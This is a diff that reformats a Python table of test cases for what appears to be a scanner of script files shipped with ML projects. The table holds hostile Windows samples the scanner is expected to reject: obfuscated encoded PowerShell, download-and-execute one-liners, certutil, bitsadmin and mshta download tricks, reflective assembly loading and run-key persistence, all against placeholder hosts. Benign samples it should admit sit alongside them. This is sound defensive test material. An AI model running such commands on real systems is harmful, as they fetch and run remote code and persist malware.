@@ -52,33 +52,136 @@ _WINDOWS = (
     ("encoded-slash", "bat", "the parameter begins with a slash", f"powershell /EncodedCommand {_CALC}", "reject"),
     ("encoded-pwsh", "sh", "PowerShell as it is called elsewhere", f"#!/bin/sh\npwsh -ec {_CALC}", "reject"),
     ("encoded-carets", "bat", "carets between the letters", f"p^ower^shell -e^nc {_CALC}", "reject"),
-    ("encoded-argument", "ps1", "it is an argument of Start-Process", f"Start-Process powershell -ArgumentList '-enc {_CALC}'", "reject"),
-    ("encoded-variables", "bat", "the words stand in variables", f"set a=power\nset \"b=shell -en\"\n%a%%b%c {_CALC}", "reject"),
-    ("letters", "bat", "a command that is spelled letter by letter", "".join(f"%x:~{n},1%" for n in range(12)), "reject"),
-    ("download-string", "ps1", "runs what it fetches without encryption", f"IEX {_WEB}('http://example.org/x')", "reject"),
-    ("download-behind", "ps1", "the same, behind a pipe and from a bare address", f"{_WEB}('https://192.0.2.1/x') | iex", "reject"),
-    ("download-joined", "ps1", "the name of the command is put together", "$a='I'+'EX'; & $a (iwr http://example.org/x)", "reject"),
-    ("download-block", "ps1", "runs a script block of what it fetches", "&([scriptblock]::Create((irm http://example.org/x)))", "reject"),
-    ("download-file", "bat", "runs the program that it fetches", "bitsadmin /transfer j http://example.org/x.exe %T%\\x.exe & %T%\\x.exe",
-     "reject"),
-    ("assembly", "ps1", "loads a program from base64", "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))", "reject"),
-    ("certutil", "cmd", "certutil as a downloader", "certutil -urlcache -split -f https://example.org/x.exe x.exe", "reject"),
+    (
+        "encoded-argument",
+        "ps1",
+        "it is an argument of Start-Process",
+        f"Start-Process powershell -ArgumentList '-enc {_CALC}'",
+        "reject",
+    ),
+    (
+        "encoded-variables",
+        "bat",
+        "the words stand in variables",
+        f'set a=power\nset "b=shell -en"\n%a%%b%c {_CALC}',
+        "reject",
+    ),
+    (
+        "letters",
+        "bat",
+        "a command that is spelled letter by letter",
+        "".join(f"%x:~{n},1%" for n in range(12)),
+        "reject",
+    ),
+    (
+        "download-string",
+        "ps1",
+        "runs what it fetches without encryption",
+        f"IEX {_WEB}('http://example.org/x')",
+        "reject",
+    ),
+    (
+        "download-behind",
+        "ps1",
+        "the same, behind a pipe and from a bare address",
+        f"{_WEB}('https://192.0.2.1/x') | iex",
+        "reject",
+    ),
+    (
+        "download-joined",
+        "ps1",
+        "the name of the command is put together",
+        "$a='I'+'EX'; & $a (iwr http://example.org/x)",
+        "reject",
+    ),
+    (
+        "download-block",
+        "ps1",
+        "runs a script block of what it fetches",
+        "&([scriptblock]::Create((irm http://example.org/x)))",
+        "reject",
+    ),
+    (
+        "download-file",
+        "bat",
+        "runs the program that it fetches",
+        "bitsadmin /transfer j http://example.org/x.exe %T%\\x.exe & %T%\\x.exe",
+        "reject",
+    ),
+    (
+        "assembly",
+        "ps1",
+        "loads a program from base64",
+        "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))",
+        "reject",
+    ),
+    (
+        "certutil",
+        "cmd",
+        "certutil as a downloader",
+        "certutil -urlcache -split -f https://example.org/x.exe x.exe",
+        "reject",
+    ),
     ("mshta", "bat", "a page that runs as a program", "start mshta https://example.org/x.hta", "reject"),
-    ("rundll32", "bat", "a script in place of a library", 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "', "reject"),
-    ("run-key", "bat", "starts with every login", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe", "reject"),
-    ("in-vbs", "vbs", "a script of Windows starts it", f'CreateObject("WScript.Shell").Run "powershell -enc {_CALC}", 0', "reject"),
+    (
+        "rundll32",
+        "bat",
+        "a script in place of a library",
+        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "',
+        "reject",
+    ),
+    (
+        "run-key",
+        "bat",
+        "starts with every login",
+        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe",
+        "reject",
+    ),
+    (
+        "in-vbs",
+        "vbs",
+        "a script of Windows starts it",
+        f'CreateObject("WScript.Shell").Run "powershell -enc {_CALC}", 0',
+        "reject",
+    ),
     ("installer", "ps1", "an installer that everybody runs so", "irm https://example.org/install.ps1 | iex", "review"),
-    ("ordinary-webui", "bat", "an ordinary starter of a web interface",
-     "@echo off\nset PYTHON=python\nset COMMANDLINE_ARGS=--xformers\n%PYTHON% -m venv venv\ncall venv\\Scripts\\activate.bat\n"
-     "%PYTHON% launch.py %COMMANDLINE_ARGS%\npause", "admit"),
-    ("ordinary-download", "bat", "fetches a file, and PowerShell with other parameters",
-     "powershell -ExecutionPolicy Bypass -Encoding utf8 -Command \"Invoke-WebRequest https://example.org/a.zip -OutFile a.zip\"\n"
-     "powershell -Command \"Expand-Archive a.zip -DestinationPath .\"\ncertutil -hashfile a.zip SHA256", "admit"),
-    ("ordinary-powershell", "ps1", "an ordinary script of PowerShell",
-     "param([string]$Model = 'x')\n$env:HF_HOME = \"$PWD\\hf\"\npython -m pip install -r requirements.txt `\n  --upgrade\n"
-     "[Reflection.Assembly]::LoadWithPartialName('System.IO.Compression.FileSystem')\nWrite-Host ('a' + 'b')", "admit"),
-    ("ordinary-hidden-starter", "vbs", "starts a batch file without a window",
-     'CreateObject("WScript.Shell").Run "webui.bat", 0, False', "admit"),
+    (
+        "ordinary-webui",
+        "bat",
+        "an ordinary starter of a web interface",
+        (
+            "@echo off\nset PYTHON=python\nset COMMANDLINE_ARGS=--xformers\n%PYTHON% -m venv venv\ncall venv\\Scripts\\activate.bat\n"
+            "%PYTHON% launch.py %COMMANDLINE_ARGS%\npause"
+        ),
+        "admit",
+    ),
+    (
+        "ordinary-download",
+        "bat",
+        "fetches a file, and PowerShell with other parameters",
+        (
+            'powershell -ExecutionPolicy Bypass -Encoding utf8 -Command "Invoke-WebRequest https://example.org/a.zip -OutFile a.zip"\n'
+            'powershell -Command "Expand-Archive a.zip -DestinationPath ."\ncertutil -hashfile a.zip SHA256'
+        ),
+        "admit",
+    ),
+    (
+        "ordinary-powershell",
+        "ps1",
+        "an ordinary script of PowerShell",
+        (
+            "param([string]$Model = 'x')\n$env:HF_HOME = \"$PWD\\hf\"\npython -m pip install -r requirements.txt `\n  --upgrade\n"
+            "[Reflection.Assembly]::LoadWithPartialName('System.IO.Compression.FileSystem')\nWrite-Host ('a' + 'b')"
+        ),
+        "admit",
+    ),
+    (
+        "ordinary-hidden-starter",
+        "vbs",
+        "starts a batch file without a window",
+        'CreateObject("WScript.Shell").Run "webui.bat", 0, False',
+        "admit",
+    ),
 )
 
 _MODULES = '[{"idx": 0, "name": "0", "path": "%s", "type": "sentence_transformers.models.Pooling"}]'
